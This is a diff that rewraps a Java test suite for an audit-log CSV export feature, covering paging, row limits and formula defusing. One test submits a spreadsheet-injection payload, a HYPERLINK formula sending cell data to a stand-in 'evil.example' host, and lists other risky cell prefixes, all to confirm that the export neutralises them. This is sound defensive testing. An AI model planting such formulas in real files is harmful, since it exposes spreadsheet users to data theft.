@@ -21,10 +21,12 @@ class AuditExportTest extends ConsoleTest {
   @Test
   void exportsEveryMatchingRowNotJustAPage() throws Exception {
     // more rows than one export batch (1000), so the keyset paging between batches is exercised
-    sql("insert into audit_event (actor_name, action, resource_type, resource_id, outcome, status, detail) "
-        + "select 'bulk', 'bulk.write', 'thing', g::text, 'success', 200, jsonb_build_object('n', g) "
-        + "from generate_series(1, 2345) g");
-    sql("insert into audit_event (actor_name, action, outcome, status) values ('other', 'bulk.write', 'success', 200)");
+    sql(
+        "insert into audit_event (actor_name, action, resource_type, resource_id, outcome, status, detail) "
+            + "select 'bulk', 'bulk.write', 'thing', g::text, 'success', 200, jsonb_build_object('n', g) "
+            + "from generate_series(1, 2345) g");
+    sql(
+        "insert into audit_event (actor_name, action, outcome, status) values ('other', 'bulk.write', 'success', 200)");
 
     Http.Response csv = http.get("/api/v1/audit/export?actor=bulk&action=bulk.*", admin);
     assertEquals(200, csv.status());
@@ -32,8 +34,10 @@ class AuditExportTest extends ConsoleTest {
     assertTrue(csv.header("Content-Disposition").startsWith("attachment; filename=\"audit-"));
     assertEquals("2345", csv.header("X-Total-Count"));
     List<String> lines = lines(csv.body());
-    assertEquals("\"id\",\"at\",\"actor\",\"action\",\"resourceType\",\"resourceId\",\"outcome\",\"status\","
-        + "\"clientAddress\",\"detail\"", lines.get(0));
+    assertEquals(
+        "\"id\",\"at\",\"actor\",\"action\",\"resourceType\",\"resourceId\",\"outcome\",\"status\","
+            + "\"clientAddress\",\"detail\"",
+        lines.get(0));
     assertEquals(2346, lines.size(), "a header and every matching row");
     Set<String> resourceIds = new HashSet<>();
     long previousId = Long.MAX_VALUE;
@@ -46,9 +50,12 @@ class AuditExportTest extends ConsoleTest {
       resourceIds.add(cells.get(5));
     }
     assertEquals(2345, resourceIds.size());
-    assertEquals(new JsonObject().put("n", 1), new JsonObject(cells(lines.get(lines.size() - 1)).get(9)));
+    assertEquals(
+        new JsonObject().put("n", 1), new JsonObject(cells(lines.get(lines.size() - 1)).get(9)));
 
-    assertEquals(1, lines(http.get("/api/v1/audit/export?since=2999-01-01T00:00:00Z", admin).body()).size(),
+    assertEquals(
+        1,
+        lines(http.get("/api/v1/audit/export?since=2999-01-01T00:00:00Z", admin).body()).size(),
         "no match: the header only");
     assertEquals(400, http.get("/api/v1/audit/export?outcome=maybe", admin).status());
   }
@@ -56,12 +63,18 @@ class AuditExportTest extends ConsoleTest {
   @Test
   void cellsASpreadsheetWouldRunAreDefused() throws Exception {
     String formula = "=HYPERLINK(\"http://evil.example/\"&A1,\"x\")";
-    http.post("/api/v1/auth/login", null, new JsonObject().put("username", formula).put("password", "nope-nope-1"));
-    eventually(() -> http.get("/api/v1/audit?action=session.login&outcome=denied", admin).items(),
+    http.post(
+        "/api/v1/auth/login",
+        null,
+        new JsonObject().put("username", formula).put("password", "nope-nope-1"));
+    eventually(
+        () -> http.get("/api/v1/audit?action=session.login&outcome=denied", admin).items(),
         items -> !items.isEmpty());
-    String body = http.get("/api/v1/audit/export?action=session.login&outcome=denied", admin).body();
+    String body =
+        http.get("/api/v1/audit/export?action=session.login&outcome=denied", admin).body();
     List<String> cells = cells(lines(body).get(1));
-    assertEquals("'" + formula, cells.get(2), "a leading apostrophe, quotes doubled in the raw CSV");
+    assertEquals(
+        "'" + formula, cells.get(2), "a leading apostrophe, quotes doubled in the raw CSV");
     assertTrue(body.contains("\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"x\"\")\""));
     for (String risky : List.of("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx")) {
       assertEquals("\"'" + risky + "\"", AuditCsv.cell(risky));
@@ -72,8 +85,11 @@ class AuditExportTest extends ConsoleTest {
 
   @Test
   void tooManyRowsAreRefusedNotCut() throws Exception {
-    sql("insert into audit_event (actor_name, action, outcome, status) "
-        + "select 'flood', 'flood.write', 'success', 200 from generate_series(1, " + (AuditRoutes.MAX_EXPORT_ROWS + 1) + ")");
+    sql(
+        "insert into audit_event (actor_name, action, outcome, status) "
+            + "select 'flood', 'flood.write', 'success', 200 from generate_series(1, "
+            + (AuditRoutes.MAX_EXPORT_ROWS + 1)
+            + ")");
     Http.Response refused = http.get("/api/v1/audit/export?actor=flood", admin);
     assertEquals(400, refused.status());
     assertTrue(refused.json().getString("detail").contains("Narrow the filters"), refused.body());
@@ -81,15 +97,21 @@ class AuditExportTest extends ConsoleTest {
   }
 
   private static String operatorToken() {
-    http.post("/api/v1/users", admin,
-        new JsonObject().put("username", "ops-export").put("password", "Ops-Export-Pass-1").put("role", "operator"));
+    http.post(
+        "/api/v1/users",
+        admin,
+        new JsonObject()
+            .put("username", "ops-export")
+            .put("password", "Ops-Export-Pass-1")
+            .put("role", "operator"));
     return http.login("ops-export", "Ops-Export-Pass-1");
   }
 
   private static void sql(String statement) throws Exception {
     var db = console.config().database();
-    try (Connection c = DriverManager.getConnection(db.url().orElseThrow(), db.user(),
-        db.password().map(s -> s.value()).orElse(""))) {
+    try (Connection c =
+        DriverManager.getConnection(
+            db.url().orElseThrow(), db.user(), db.password().map(s -> s.value()).orElse(""))) {
       c.createStatement().execute(statement);
     }
   }
